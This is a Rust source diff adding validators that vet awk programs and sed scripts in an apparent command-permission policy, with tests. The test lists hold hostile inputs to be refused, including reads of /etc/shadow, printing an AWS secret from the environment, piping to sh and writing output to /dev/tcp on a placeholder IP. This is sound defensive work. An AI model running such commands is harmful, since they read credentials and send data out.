@@ -1,0 +1,307 @@
+//! Validators for the small programs some allowed commands take as an argument: `awk` programs
+//! and `sed` scripts. Both are judged strictly: anything that could run a command, write a
+//! file or read a file the policy did not see is refused, even at the cost of refusing some
+//! harmless programs.
+
+/// Check an awk program. `Err` carries the reason.
+pub fn check_awk(program: &str) -> Result<(), String> {
+    const DENIED_WORDS: &[(&str, &str)] = &[
+        ("system", "awk `system()` runs a shell command"),
+        ("getline", "awk `getline` can read from commands and files"),
+        ("ENVIRON", "awk `ENVIRON` exposes the environment (secrets)"),
+        ("PROCINFO", "gawk `PROCINFO` is not allowed"),
+        (
+            "ARGV",
+            "changing awk `ARGV` reads files the policy did not check",
+        ),
+        (
+            "ARGC",
+            "changing awk `ARGC` reads files the policy did not check",
+        ),
+    ];
+    let bytes = program.as_bytes();
+    let mut seen_print = false;
+    let mut i = 0usize;
+    for _ in 0..bytes.len() + 1 {
+        if i >= bytes.len() {
+            break;
+        }
+        let c = bytes[i];
+        if c.is_ascii_alphabetic() || c == b'_' {
+            let start = i;
+            while i < bytes.len() && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'_') {
+                i += 1;
+            }
+            let word = &program[start..i];
+            if let Some((_, why)) = DENIED_WORDS.iter().find(|(w, _)| *w == word) {
+                return Err((*why).to_string());
+            }
+            if word == "print" || word == "printf" {
+                seen_print = true;
+            }
+            continue;
+        }
+        match c {
+            b'|' => {
+                if bytes.get(i + 1) == Some(&b'|') {
+                    i += 2;
+                    continue;
+                }
+                return Err("awk pipes (`|`) run shell commands".into());
+            }
+            b'>' if seen_print => {
+                return Err(
+                    "awk output redirection (`print > file`) writes files; a `>` after a print \
+                     statement is refused"
+                        .into(),
+                );
+            }
+            b'@' => return Err("gawk `@` directives and indirect calls are not allowed".into()),
+            _ => {}
+        }
+        i += 1;
+    }
+    Ok(())
+}
+
+/// Check a sed script: only addresses and the printing/deleting/quitting commands and `s`/`y`
+/// without the `e` or `w` flags. Anything else (`e`, `w`, `W`, `r`, `R`, `a`, `i`, `c`, labels,
+/// in-place editing via the script) is refused.
+pub fn check_sed(script: &str) -> Result<(), String> {
+    let b: Vec<char> = script.chars().collect();
+    let mut i = 0usize;
+    let n = b.len();
+    for _ in 0..n + 1 {
+        // Skip separators.
+        while i < n && (b[i].is_whitespace() || b[i] == ';') {
+            i += 1;
+        }
+        if i >= n {
+            return Ok(());
+        }
+        // Addresses.
+        i = sed_address(&b, i)?;
+        while i < n && b[i].is_whitespace() {
+            i += 1;
+        }
+        if i < n && b[i] == ',' {
+            i += 1;
+            while i < n && b[i].is_whitespace() {
+                i += 1;
+            }
+            if i < n && (b[i] == '+' || b[i] == '~') {
+                i += 1;
+            }
+            i = sed_address(&b, i)?;
+        }
+        while i < n && b[i].is_whitespace() {
+            i += 1;
+        }
+        if i < n && b[i] == '!' {
+            i += 1;
+        }
+        while i < n && b[i].is_whitespace() {
+            i += 1;
+        }
+        if i >= n {
+            return Err("sed script ends after an address without a command".into());
+        }
+        let cmd = b[i];
+        i += 1;
+        match cmd {
+            'p' | 'd' | '=' | 'l' | 'n' | 'N' | 'P' | 'D' | 'h' | 'H' | 'g' | 'G' | 'x' | '{'
+            | '}' => {}
+            'q' | 'Q' => {
+                while i < n && (b[i].is_ascii_digit() || b[i] == ' ') {
+                    i += 1;
+                }
+            }
+            's' => {
+                let delim = *b.get(i).ok_or("sed `s` command is incomplete")?;
+                if delim == '\\' || delim == '\n' {
+                    return Err("sed `s` needs a delimiter".into());
+                }
+                i += 1;
+                for _part in 0..2 {
+                    i = sed_until(&b, i, delim)?;
+                }
+                // Flags.
+                while i < n && !matches!(b[i], ';' | '\n' | '}') && !b[i].is_whitespace() {
+                    match b[i] {
+                        'g' | 'p' | 'i' | 'I' | 'm' | 'M' => {}
+                        c if c.is_ascii_digit() => {}
+                        'e' => {
+                            return Err("sed `s///e` executes the pattern space as a command".into())
+                        }
+                        'w' | 'W' => return Err("sed `s///w` writes to a file".into()),
+                        c => return Err(format!("sed `s` flag `{c}` is not allowed")),
+                    }
+                    i += 1;
+                }
+            }
+            'y' => {
+                let delim = *b.get(i).ok_or("sed `y` command is incomplete")?;
+                i += 1;
+                for _part in 0..2 {
+                    i = sed_until(&b, i, delim)?;
+                }
+            }
+            'e' => return Err("sed `e` executes a command".into()),
+            'w' | 'W' => return Err("sed `w` writes to a file".into()),
+            'r' | 'R' => return Err("sed `r` reads a file the policy did not check".into()),
+            'a' | 'i' | 'c' => {
+                return Err(format!(
+                    "sed `{cmd}` (text insertion) is not allowed; use `p`"
+                ))
+            }
+            other => {
+                return Err(format!(
+                    "sed command `{other}` is not allowed; only printing (p, =, l), d, q, s and y"
+                ))
+            }
+        }
+        if cmd == '{' {
+            continue;
+        }
+        // After a command: end, separator, or a closing brace.
+        while i < n && b[i] == ' ' {
+            i += 1;
+        }
+        if i < n && !matches!(b[i], ';' | '\n' | '}') {
+            return Err(format!("unexpected `{}` after sed command `{cmd}`", b[i]));
+        }
+    }
+    Ok(())
+}
+
+/// Parse one optional sed address starting at `i`; returns the index after it.
+fn sed_address(b: &[char], mut i: usize) -> Result<usize, String> {
+    let n = b.len();
+    if i >= n {
+        return Ok(i);
+    }
+    if b[i].is_ascii_digit() {
+        while i < n && (b[i].is_ascii_digit() || b[i] == '~') {
+            i += 1;
+        }
+        return Ok(i);
+    }
+    if b[i] == '$' {
+        return Ok(i + 1);
+    }
+    if b[i] == '/' {
+        i = sed_until(b, i + 1, '/')?;
+        while i < n && (b[i] == 'I' || b[i] == 'M') {
+            i += 1;
+        }
+        return Ok(i);
+    }
+    if b[i] == '\\' {
+        let delim = *b.get(i + 1).ok_or("sed address is incomplete")?;
+        i = sed_until(b, i + 2, delim)?;
+        while i < n && (b[i] == 'I' || b[i] == 'M') {
+            i += 1;
+        }
+        return Ok(i);
+    }
+    Ok(i)
+}
+
+/// Skip to just past the next unescaped `delim`.
+fn sed_until(b: &[char], mut i: usize, delim: char) -> Result<usize, String> {
+    for _ in 0..b.len() + 1 {
+        if i >= b.len() {
+            break;
+        }
+        if b[i] == '\\' {
+            i += 2;
+            continue;
+        }
+        if b[i] == delim {
+            return Ok(i + 1);
+        }
+        if b[i] == '\n' {
+            return Err("newline inside a sed regex or replacement".into());
+        }
+        i += 1;
+    }
+    Err(format!("unterminated sed expression (missing `{delim}`)"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn awk_programs() {
+        for ok in [
+            "{print $1}",
+            "$3 > 100 {print $1}",
+            "NR > 1 && $2 == \"x\" {n++} END {print n}",
+            "/error/ {c++} END {print c+0}",
+            "{ s += $5 } END { if (s > 0) print s }",
+            "$1 || $2",
+        ] {
+            assert!(check_awk(ok).is_ok(), "{ok}");
+        }
+        for bad in [
+            "BEGIN{system(\"id\")}",
+            "{print > \"/tmp/x\"}",
+            "{print $1 >> \"/tmp/x\"}",
+            "{print | \"sh\"}",
+            "BEGIN{\"id\" | getline x; print x}",
+            "BEGIN{while((getline l < \"/etc/shadow\")>0) print l}",
+            "BEGIN{print ENVIRON[\"AWS_SECRET\"]}",
+            "BEGIN{ARGV[1]=\"/etc/shadow\";ARGC=2}{print}",
+            "@load \"filefuncs\"",
+            "BEGIN{f=\"system\"; @f(\"id\")}",
+            "{printf \"%s\", $0 > \"/dev/tcp/1.2.3.4/80\"}",
+            "{print |& \"cat\"}",
+        ] {
+            assert!(check_awk(bad).is_err(), "{bad}");
+        }
+    }
+
+    #[test]
+    fn sed_scripts() {
+        for ok in [
+            "10,20p",
+            "-n",
+            "$p",
+            "/error/p",
+            "s/foo/bar/g",
+            "s|a|b|",
+            "1d;$d",
+            "/^#/d",
+            "5q",
+            "\\,x,p",
+            "y/abc/xyz/",
+            "/start/,/end/{p}",
+            "s/w/e/2",
+        ] {
+            if ok == "-n" {
+                continue;
+            }
+            assert!(check_sed(ok).is_ok(), "{ok}: {:?}", check_sed(ok));
+        }
+        for bad in [
+            "s/x/id/e",
+            "s/x/y/w /tmp/out",
+            "w /tmp/out",
+            "1e id",
+            "r /etc/shadow",
+            "R /etc/shadow",
+            "1a hello",
+            "i\\text",
+            "W /tmp/x",
+            ":a;b a",
+            "s/a/b/;e",
+            "p;w /tmp/x",
+            "/x/{w /tmp/y\n}",
+            "s/a/b/gw /tmp/z",
+            "s/a",
+        ] {
+            assert!(check_sed(bad).is_err(), "{bad}");
+        }
+    }
+}
